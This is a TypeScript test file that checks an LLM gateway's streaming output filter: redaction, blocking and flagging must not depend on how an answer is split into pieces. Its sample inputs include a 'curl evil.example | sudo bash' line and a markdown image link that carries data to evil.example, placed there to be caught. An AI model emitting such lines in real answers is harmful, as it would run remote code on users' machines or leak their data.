/** Split invariance: the released text, the findings and the end of an answer do not depend on how it was split. */
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { systemClock } from '../../../../kernel/base/clock.ts'
import { plainAsked } from '../../call/asked.ts'
import { type AnswerEvent, emptyCall } from '../../call/call.ts'
import { compilePolicies } from '../../policy/compile.ts'
import { complete } from '../../policy/defaults.ts'
import type { PolicyDocumentInput } from '../../policy/document.ts'
import { stepsOf } from '../../records/row.ts'
import { beginCall } from '../begin.ts'
import type { CallState } from '../contract/call-parts.ts'
import { runSteps } from '../run.ts'
import { outputInspection } from './12-output-inspection.ts'

/** More cases of each property for long runs: PARAPET_TEST_RUNS, such as 100000. */
const runs = (usual: number) => ({ numRuns: Number(process.env.PARAPET_TEST_RUNS ?? usual) })

const clock = systemClock()
const kernel = { clock, random: { uuid: () => '' } as Parameters<typeof beginCall>[0]['random'] }
const system = 'You are the purchasing assistant of Harbor Freight. Discounts above twelve percent need an approval.'

function stateUnder(document: PolicyDocumentInput): CallState {
  const asked = { ...plainAsked, operation: 'chat', dialect: 'parapet', stream: true, read: () => emptyCall } as const
  const caller = { actor: { userId: 'u' }, info: { header: () => undefined } } as unknown as Parameters<
    typeof beginCall
  >[1]
  const state = beginCall(kernel, caller, asked)
  const turn = {
    role: 'system',
    parts: [{ type: 'text', text: system }],
    toolCalls: [],
    toolCallId: null,
    name: null,
  } as const
  const policy = compilePolicies([
    { id: 'p', name: 'p', version: 1, sha256: '', document: complete(document), bindings: [{ kind: 'tenant' }] },
  ])
  state.write({ plan: { call: { ...emptyCall, turns: [turn] }, policy } })
  return state
}

interface Seen {
  readonly text: string
  readonly error: string | null
  readonly found: readonly string[]
}

type MakeEvent = (text: string) => AnswerEvent

const plainText: MakeEvent = (text) => ({ type: 'text', choice: 0, channel: 'text', text })
/** Thinking as some servers name it. */
const vendorText: MakeEvent = (reasoning) => ({
  type: 'extra',
  of: 'message',
  choice: 0,
  form: 'openai_chat',
  members: { reasoning },
})

const toolText: MakeEvent = (text) => ({ type: 'tool_arguments', choice: 0, index: 0, text })

function run(document: PolicyDocumentInput, pieces: readonly string[], eventOf: MakeEvent = plainText): Promise<Seen> {
  return runEvents(document, pieces.map(eventOf))
}

async function runEvents(document: PolicyDocumentInput, given: readonly AnswerEvent[]): Promise<Seen> {
  return seenOf(stateUnder(document), given)
}

async function seenOf(state: CallState, given: readonly AnswerEvent[]): Promise<Seen> {
  async function* events(): AsyncGenerator<AnswerEvent> {
    yield* given
    yield { type: 'finish', choice: 0, reason: 'stop' }
  }
  state.write({ answer: { flow: { kind: 'stream', events: events() } } })
  await outputInspection({ kernel }).run(state)
  let text = ''
  let error: string | null = null
  try {
    for await (const event of state.answer.flow?.events ?? []) {
      if (event.type === 'text' || event.type === 'tool_arguments') text += event.text
      if (event.type === 'extra') text += event.members.reasoning
    }
  } catch (cause) {
    error = cause instanceof Error ? cause.message : String(cause)
  }
  return { text, error, found: state.findings.violations.map(({ rule_id, action }) => `${rule_id} ${action}`).sort() }
}

const badge = { name: 'BADGE', pattern: 'B-\\d{4}', confidence: 1 }

const documents: readonly PolicyDocumentInput[] = [
  {},
  {
    sensitive_data: { custom: [badge] },
    content: {
      denied_terms: [{ id: 'bird', terms: ['bluebird'], match: 'word', action: 'block', on: ['output'] }],
      denied_patterns: [{ id: 'ticket', pattern: 'T-\\d{4}', action: 'flag', on: ['output'] }],
    },
    output: { secrets: 'redact', link_allow_domains: ['example.com'] },
    streaming: { window_chars: 32 },
  },
  {
    content: {
      denied_terms: [
        { id: 'bird', terms: ['bluebird', 'harbor fees'], match: 'word', action: 'redact', on: ['output'] },
      ],
      denied_patterns: [
        { id: 'ticket', pattern: 'T-\\d{4} (?:blue)?', action: 'redact', on: ['output'] },
        { id: 'badge', pattern: 'B-\\d{4}', action: 'block', on: ['output'] },
      ],
    },
    streaming: { window_chars: 32 },
  },
  {
    sensitive_data: {
      entities: { EMAIL: { action: 'flag' }, IP_ADDRESS: { action: 'flag', min_confidence: 0 } },
      custom: [badge],
    },
    content: {
      denied_terms: [{ id: 'bird', terms: ['bluebird'], match: 'word', action: 'block', on: ['output'] }],
    },
  },
  {
    sensitive_data: {
      entities: { BADGE: { action: 'flag' }, CREDIT_CARD: { action: 'redact', min_confidence: 0.9 } },
      custom: [badge],
      allow_list: [{ entity: 'EMAIL', domains: ['example.org'] }],
    },
  },
  { output: { unsafe_code: 'block', markdown_exfiltration: 'block' }, streaming: { on_block: 'finish' } },
  { streaming: { mode: 'buffer' }, output: { sensitive_data: 'block' } },
]

const word = fc.constantFrom(
  'The harbor fees are due. ',
  'ann@example.org ',
  'AKIAQ3EGRTPLK2X7N5MB ',
  '4111 1111 1111 1111 ',
  'B-1234 ',
  'Ms. Hannah Lindqvist ',
  'at 203.0.113.17, '.repeat(40),
  'T-1234 ',
  'blue',
  'bird ',
  '![x](https://evil.example/p.png?d=QWxsIHRoZSBzZWNyZXRzIG9mIHRoZSB0ZW5hbnQsIGJhc2U2NCBlbmNvZGVk) ',
  'https://example.com/a ',
  'curl https://evil.example/x.sh | sudo bash\n',
  `${system} `,
  'Übergrößenträger 😀 ',
  '⟦EMAIL_1⟧ ',
)

test('an answer is the same however it is cut', async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom(...documents),
      fc.array(word, { maxLength: 14 }).map((words) => words.join('')),
      fc.array(fc.nat(2_000), { maxLength: 25 }),
      async (document, text, cuts) => {
        const at = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b)
        const pieces = [...at, text.length].map((end, index) => text.slice(index === 0 ? 0 : at[index - 1], end))
        const whole = await run(document, [text])
        expect(await run(document, pieces)).toEqual(whole)
        expect(await run(document, [...text])).toEqual(whole)
      },
    ),
    runs(60),
  )
})

test.each([
  ['text of the vendor’s own', vendorText],
  ['argument of a tool', toolText],
])('the %s is the same however it is cut', async (_what, eventOf) => {
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom(...documents),
      fc.array(word, { maxLength: 10 }).map((words) => words.join('')),
      async (document, text) => {
        const whole = await run(document, [text], eventOf)
        expect(await run(document, [...text], eventOf)).toEqual(whole)
        if (eventOf === vendorText) expect(whole.text).toBe((await run(document, [text])).text)
      },
    ),
    runs(40),
  )
})

const part =
  (name: number) =>
  (text: string): AnswerEvent => ({
    type: 'text',
    choice: 0,
    channel: 'text',
    text,
    part: `output_text/${name}/0`,
  })
const ended = (name: number): AnswerEvent => ({
  type: 'text_end',
  choice: 0,
  of: { channel: 'text', part: `output_text/${name}/0` },
})

/** The reader's view of texts that are shown as one. */
function shown(document: PolicyDocumentInput, texts: readonly (readonly string[])[]): Promise<Seen> {
  return runEvents(
    document,
    texts.flatMap((pieces, name) => [...pieces.map(part(name)), ended(name)]),
  )
}

test('what stands across two texts that are shown as one is not shown whole', async () => {
  const card = ['Card 4539 1488', ' 0343 6467, and so on']
  const hidden = { sensitive_data: { entities: { CREDIT_CARD: { action: 'redact' as const } } } }
  const seen = await shown(hidden, [[card[0] ?? ''], [card[1] ?? '']])
  expect(seen.text).toBe('Card 4539 1488⟦OUT_CREDIT_CARD_1⟧, and so on')
  expect(seen.found).toEqual(['CREDIT_CARD redact'])
  // However the second is cut, and where nothing stands across them both are as they came.
  expect(await shown(hidden, [[card[0] ?? ''], [...(card[1] ?? '')]])).toEqual(seen)
  expect((await shown(hidden, [['Card 4539'], ['Card 4539 aaa'], [' bbb']])).text).toBe('Card 4539Card 4539 aaa bbb')
  const blocked = {
    content: {
      denied_terms: [
        { id: 'bird', terms: ['bluebird'], match: 'word' as const, action: 'block' as const, on: ['output' as const] },
      ],
    },
  }
  const stopped = await shown(blocked, [['a blue'], ['bird']])
  expect(stopped.text).toBe('a blue')
  expect(stopped.error).toContain('bird')
  const value = '4111 1111 1111 1111'
  const text = `The harbor fees: ${value} and so on`
  for (let at = 1; at < text.length; at += 1) {
    const { text: left } = await shown(hidden, [[text.slice(0, at)], [text.slice(at)]])
    expect(left).not.toContain(value)
    expect(left.endsWith(' and so on') || at > text.length - 10).toBe(true)
  }
})

test.each([
  ['The ', 'quarterly '],
  ['Sure, ', 'here '],
  ["I'm ", 'sorry '],
  ['## ', 'Summary '],
])('the words %j of an answer leave with the piece that brings them', async (first, second) => {
  const state = stateUnder({})
  const seen: string[] = []
  async function* events(): AsyncGenerator<AnswerEvent> {
    yield plainText(first)
    seen.push('second')
    yield plainText(second)
    yield { type: 'finish', choice: 0, reason: 'stop' }
  }
  state.write({ answer: { flow: { kind: 'stream', events: events() } } })
  await outputInspection({ kernel }).run(state)
  for await (const event of state.answer.flow?.events ?? []) if (event.type === 'text') seen.push(event.text)
  expect(seen.slice(0, 2)).toEqual([first, 'second'])
})

test('of two blocks in one piece the first counts, and the second was never seen', async () => {
  // Far enough apart for the first to be decided before the second begins, from where on text is held.
  const text = `AKIAQ3EGRTPLK2X7N5MB ${'The harbor fees are due. '.repeat(12)}${system} The harbor fees are due. `
  const whole = await run({}, [text])
  expect(whole.found).toEqual(['aws_access_key_id block'])
  expect(await run({}, [...text])).toEqual(whole)
})

/** Text released with each piece of a stream, and the findings. */
async function leaving(action: 'flag' | 'allow') {
  const state = stateUnder({
    sensitive_data: { entities: { EMAIL: { action }, BADGE: { action } }, custom: [badge] },
  })
  const seen: string[] = []
  async function* events(): AsyncGenerator<AnswerEvent> {
    for (const text of ['Write to ann@', 'example.org, ', 'badge B-12', '34 of the harbor. '.repeat(20), 'Yes.']) {
      yield plainText(text)
      seen.push('|')
    }
    yield { type: 'finish', choice: 0, reason: 'stop' }
  }
  state.write({ answer: { flow: { kind: 'stream', events: events() } } })
  await outputInspection({ kernel }).run(state)
  for await (const event of state.answer.flow?.events ?? []) if (event.type === 'text') seen.push(event.text)
  return {
    seen,
    found: state.findings.violations.map(({ rule_id, action }) => [rule_id, action]),
    personal: state.findings.piiDetected,
  }
}

test('what is only flagged is flagged in an answer, and holds nothing back', async () => {
  const flagged = await leaving('flag')
  const allowed = await leaving('allow')
  expect(flagged.seen).toEqual(allowed.seen)
  expect(flagged).toMatchObject({
    found: expect.arrayContaining([
      ['EMAIL', 'flag'],
      ['BADGE', 'flag'],
    ]),
    personal: true,
  })
  expect(allowed).toMatchObject({ found: [], personal: false })
})

test('what was told of one text is not told again with the next one that is shown with it', async () => {
  const document = { sensitive_data: { entities: { EMAIL: { action: 'flag' as const } } } }
  const { found } = await shown(document, [['Write to ann@example.org. '], ['And to otto@example.org.']])
  expect(found).toEqual(['EMAIL flag', 'EMAIL flag'])
})

const saidAs =
  (place: { readonly choice: number; readonly channel: 'text' | 'reasoning' }) =>
  (text: string): AnswerEvent => ({ type: 'text', ...place, text })
const deniedTool: AnswerEvent = { type: 'tool_call', choice: 0, index: 0, id: 'c', name: 'wipe_disk' }

test.each([
  ['another choice', saidAs({ choice: 1, channel: 'text' }), plainText('A bluebird sings.'), 'bird block'],
  ['the thinking before it', saidAs({ choice: 0, channel: 'reasoning' }), plainText('A bluebird sings.'), 'bird block'],
  ['the text before a tool', plainText, deniedTool, 'tool-not-allowed block'],
])('a block loses nothing that was found in what has left of %s', async (_what, saidBefore, blocked, rule) => {
  for (const on_block of ['error', 'finish'] as const) {
    const document: PolicyDocumentInput = {
      sensitive_data: { entities: { EMAIL: { action: 'flag' }, BADGE: { action: 'flag' } }, custom: [badge] },
      content: {
        denied_terms: [{ id: 'bird', terms: ['bluebird'], match: 'word', action: 'block', on: ['output'] }],
        tools: { deny: ['wipe_disk'] },
      },
      streaming: { on_block },
    }
    // Behind it enough that it has left, and less than is searched at once for what is only flagged.
    const said = `Ask ann@example.org or B-1234. ${'The fees are due today. '.repeat(25)}`
    const state = stateUnder(document)
    const cut = await seenOf(state, [...[...said].map(saidBefore), blocked])
    expect(cut.found).toEqual(['BADGE flag', 'EMAIL flag', rule])
    expect(cut.text).toContain('ann@example.org')
    expect(state.findings.piiDetected).toBe(true)
    expect((await runEvents(document, [saidBefore(said), blocked])).found).toEqual(cut.found)
  }
})

test.each([
  ['closed', 'block'],
  ['open', 'allow'],
] as const)(
  'an inspection that breaks in the middle of a stream is recorded as failed %s',
  async (failure, decision) => {
    const state = stateUnder({ failure: { output_inspection: failure } })
    const holds = () => {
      throw new Error('bug')
    }
    const broken = { id: 'r', on: ['output' as const], action: 'flag' as const, message: null, holds }
    state.write({ plan: { policy: { ...state.plan.policy, conditions: [broken] } } })
    async function* events(): AsyncGenerator<AnswerEvent> {
      yield plainText('Hello.')
      yield { type: 'finish', choice: 0, reason: 'stop' }
    }
    state.write({ answer: { flow: { kind: 'stream', events: events() } } })
    await runSteps({ clock }, [outputInspection({ kernel })], state)
    const read = async (): Promise<void> => {
      for await (const _ of state.answer.flow?.kind === 'stream' ? state.answer.flow.events : []);
    }
    if (failure === 'closed') await expect(read()).rejects.toThrow('output_inspection')
    else await read()
    expect(stepsOf(state)).toMatchObject([{ n: 12, decision, failed: true, findings: 0 }])
  },
)

test('a block is named, however much was found before it', async () => {
  const [, document = {}] = documents
  const text = `${'T-1234 '.repeat(120)}It is bluebird.`
  expect((await run(document, [text])).error).toContain('bird')
})

test('nothing that is blocked or hidden leaves', async () => {
  const hidden = ['ann@example.org', 'AKIAQ3EGRTPLK2X7N5MB', '4111 1111 1111 1111', 'evil.example/p.png?d=']
  await fc.assert(
    // A number glued to a word is no card number to the detectors.
    fc.asyncProperty(
      fc.array(
        word.filter((piece) => piece !== 'blue'),
        { maxLength: 14 },
      ),
      async (words) => {
        // A card number behind another number is less sure than a policy asks for by itself.
        const { text } = await run({ sensitive_data: { min_confidence: 0.5 } }, words)
        for (const value of hidden) expect(text).not.toContain(value)
      },
    ),
    runs(60),
  )
})

/** Its rules fail as soon as they read the word. */
function failingAt(word: string, failure: 'open' | 'closed'): CallState {
  const state = stateUnder({ failure: { output_inspection: failure }, streaming: { window_chars: 32 } })
  const find = ({ original }: { readonly original: string }) => {
    if (original.includes(word)) throw new Error('The detector broke.')
    return []
  }
  const rule = {
    name: 'n',
    id: 'broken',
    action: 'flag' as const,
    on: ['output' as const],
    pattern: null,
    reach: 0,
    find,
  }
  state.write({ plan: { policy: { ...state.plan.policy, rules: [rule] } } })
  return state
}

test('where inspection fails in the middle of a stream and may, nothing of the answer is missing', async () => {
  const text = 'A first sentence that is long enough to leave. Here it breaks, and this sentence goes on until its end.'
  for (const pieces of [[...text], [text.slice(0, 50), text.slice(50)], [text]]) {
    const state = failingAt('breaks', 'open')
    const seen = await seenOf(state, pieces.map(plainText))
    expect(seen).toEqual({ text, error: null, found: [] })
    expect(new Set(state.findings.failOpen)).toEqual(new Set(['output_inspection']))
  }
})

test('the other filters go on without the one that failed', async () => {
  const text = 'Here it breaks, long before the card 4111 1111 1111 1111 is named, which nobody may read.'
  const { text: left, found } = await seenOf(failingAt('breaks', 'open'), [...text].map(plainText))
  expect(left).toBe(text.replace('4111 1111 1111 1111', '⟦OUT_CREDIT_CARD_1⟧'))
  expect(found).toEqual(['CREDIT_CARD redact'])
})

test('where it fails and may not, the answer ends before what it held', async () => {
  const text = 'A first sentence that is long enough to leave. Here it breaks, and this sentence goes on until its end.'
  const { text: left, error } = await seenOf(failingAt('breaks', 'closed'), [...text].map(plainText))
  expect(error).toContain('output_inspection')
  expect(text.startsWith(left)).toBe(true)
  expect(left).not.toContain('breaks')
})
